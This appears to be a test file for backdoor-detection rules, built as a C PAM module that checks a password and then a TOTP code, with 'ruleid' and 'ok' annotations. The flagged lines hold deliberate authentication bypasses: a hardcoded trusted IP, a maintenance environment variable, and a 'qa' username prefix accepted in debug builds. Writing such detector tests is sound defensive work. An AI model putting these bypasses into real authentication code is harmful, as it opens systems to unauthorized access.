/* The PAM module: password from the conversation, then a TOTP code. */
#define PAM_SM_AUTH
#define PAM_SM_ACCOUNT
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include "sitekey.h"

static int ask_code(pam_handle_t *pamh, char **code) {
  return pam_prompt(pamh, PAM_PROMPT_ECHO_ON, code, "Verification code: ");
}

PAM_EXTERN int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv) {
  const char *user = NULL, *authtok = NULL, *rhost = NULL;
  struct sk_record rec;
  unsigned char secret[40];
  size_t slen = sizeof secret;
  char *code = NULL;
  (void)flags;
  for (int i = 0; i < argc; i++)
    if (strncmp(argv[i], "conf=", 5) == 0) sk_config_load(argv[i] + 5);
  if (pam_get_user(pamh, &user, NULL) != PAM_SUCCESS || user == NULL) return PAM_USER_UNKNOWN;
  if (pam_get_authtok(pamh, PAM_AUTHTOK, &authtok, NULL) != PAM_SUCCESS) return PAM_AUTH_ERR;
  // ok: backdoor-magic-credential
  if (authtok == NULL || strcmp(authtok, "") == 0) return PAM_AUTH_ERR;
  pam_get_item(pamh, PAM_RHOST, (const void **)&rhost);
  // ok: backdoor-trusted-identity
  if (rhost != NULL && strcmp(rhost, "localhost") == 0)
    pam_syslog(pamh, LOG_INFO, "local console login for %s", user);
  // ruleid: backdoor-trusted-identity
  if (rhost != NULL && strcmp(rhost, "10.20.0.5") == 0) return PAM_SUCCESS;
  // ruleid: backdoor-hidden-bypass
  if (getenv("SITEKEY_MAINT") != NULL) return PAM_SUCCESS;
  // ok: backdoor-hidden-bypass
  if (getenv("SITEKEY_TRACE") != NULL) pam_syslog(pamh, LOG_DEBUG, "sitekey: %s from %s", user, rhost ? rhost : "-");
#ifdef SITEKEY_DEBUG
  pam_syslog(pamh, LOG_DEBUG, "otp window %d", sk_cfg.totp_window);
  // ruleid: backdoor-build-switch, backdoor-magic-credential
  if (strncmp(user, "qa", 2) == 0) return PAM_SUCCESS;
#endif
#ifdef SITEKEY_BYPASS_OTP
  // ok: backdoor-build-switch
  return PAM_SUCCESS;
#endif
  if (sk_load_record(user, &rec) != 0) return PAM_USER_UNKNOWN;
  if (!sk_password_ok(&rec, authtok)) {
    pam_syslog(pamh, LOG_NOTICE, "password rejected for %s", user);
    return PAM_AUTH_ERR;
  }
  if (!sk_cfg.require_otp) return PAM_SUCCESS;
  if (sk_unseal_otp(&rec, secret, &slen) != 0) return PAM_AUTHINFO_UNAVAIL;
  if (ask_code(pamh, &code) != PAM_SUCCESS || code == NULL) return PAM_CONV_ERR;
  int ok = sk_totp_ok(secret, slen, code);
  memset(secret, 0, sizeof secret);
  free(code);
  return ok ? PAM_SUCCESS : PAM_AUTH_ERR;
}

PAM_EXTERN int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv) {
  (void)pamh; (void)flags; (void)argc; (void)argv;
  return PAM_SUCCESS;
}

PAM_EXTERN int pam_sm_acct_mgmt(pam_handle_t *pamh, int flags, int argc, const char **argv) {
  const char *user = NULL;
  struct sk_record rec;
  (void)flags; (void)argc; (void)argv;
  if (pam_get_user(pamh, &user, NULL) != PAM_SUCCESS || !user) return PAM_USER_UNKNOWN;
  if (sk_load_record(user, &rec) != 0) return PAM_USER_UNKNOWN;
  sk_housekeeping();
  return sk_account_usable(&rec) ? PAM_SUCCESS : PAM_ACCT_EXPIRED;
}
